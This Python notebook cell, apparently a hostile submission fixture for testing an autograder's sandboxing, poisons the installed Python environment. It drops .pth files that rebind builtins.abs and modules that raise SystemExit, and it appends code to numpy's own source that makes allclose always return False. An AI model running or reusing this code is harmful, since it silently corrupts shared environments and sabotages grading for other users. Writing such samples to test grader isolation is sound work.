"""Writes into the installed packages, so that every later notebook imports what it left."""

# wants: students
# answers: wrong
# stock: graded

# %% last
import glob
import os
import site
import sys

for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]:
    for name, text in (
        ("pwned-by-a-student.pth", "import builtins; builtins.abs = lambda x: 9"),
        ("pwned-by-a-student.py", "raise SystemExit"),
    ):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(text)
        except OSError as error:
            print(error)
import numpy

try:
    with open(numpy.__file__, "a") as file:
        file.write("\nallclose = lambda *args, **kwargs: False\n")
except OSError as error:
    print(error)
